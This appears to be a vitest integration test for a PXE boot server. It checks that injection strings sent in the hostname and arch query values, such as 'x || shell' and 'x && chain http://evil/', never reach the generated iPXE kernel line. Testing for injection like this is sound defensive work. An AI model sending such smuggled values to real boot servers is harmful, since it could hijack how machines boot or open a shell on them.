// A machine (or the site DHCP server that fills iPXE's ${hostname}) sends hostile text in the /ipxe query:
// the real server, a real boot planner with the shipped presets, and the script that comes back.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Mac } from '../../../src/protocol/mac.js';
import { openAssignments } from '../../../src/state/assignments.js';
import { createBootPlanner } from '../../../src/state/boot-plans.js';
import { openClientPolicies } from '../../../src/state/client-policies.js';
import { loadProfileLibrary } from '../../../src/state/profile-library.js';
import { ofKind, startServer, type RunningServer } from './fixtures.js';

const mac = '52:54:00:aa:00:01' as Mac;
const dir = mkdtempSync(join(tmpdir(), 'pxd-injection-'));
let server: RunningServer;

beforeAll(async () => {
  const library = loadProfileLibrary(resolve(import.meta.dirname, '../../../presets'));
  const assignments = openAssignments(dir);
  assignments.assign(mac, { kind: 'profile', profile: 'debian-installer' });
  const plans = createBootPlanner({ serverBase: 'http://127.0.0.1', library: () => library, assignments, policies: openClientPolicies(dir), defaultTarget: { kind: 'local' } });
  server = await startServer({
    roots: [],
    renderIpxeScript: async (request) => {
      const result = plans.renderIpxe(request);
      return result.ok ? { script: result.text } : { status: result.status, message: result.message };
    },
  });
});

afterAll(async () => {
  await server?.close();
  rmSync(dir, { recursive: true, force: true });
});

const hex = (text: string) => Buffer.from(text).toString('hex');

describe('/ipxe with hostile query values', () => {
  it.each(['x || shell', 'x ${net0/ip}', 'x\n shell', '#', 'x && chain http://evil/'])('hostname and arch %j never reach the script', async (value) => {
    const query = `mac=52-54-00-aa-00-01&arch=${encodeURIComponent(value)}&enc=hex&hostname=${hex(value)}`;
    const response = await fetch(`${server.base}/ipxe?${query}`);
    const script = await response.text();
    expect(response.status).toBe(200);
    const kernel = script.split('\n').find((line) => line.startsWith('kernel '))!;
    expect(kernel).toContain(' hostname=pxe-52-54-00-aa-00-01 ');
    expect(kernel).toMatch(/ \|\| goto failed$/);
    expect(kernel.match(/\|\|/g)).toHaveLength(1);
    expect(script).not.toMatch(/shell|evil|\$\{net0/);
    const logged = ofKind(server.events, 'http.request').at(-1)!;
    expect(logged.reason).toMatch(/^not used, each must be one word .*arch .*hostname /);
  });

  it('a plain host name still lands on the kernel line', async () => {
    const script = await (await fetch(`${server.base}/ipxe?mac=52-54-00-aa-00-01&arch=x86_64&enc=hex&hostname=${hex('rack1-node07')}`)).text();
    expect(script).toMatch(/^kernel .* hostname=rack1-node07 /m);
    expect(ofKind(server.events, 'http.request').at(-1)!.reason).toBeUndefined();
  });
});
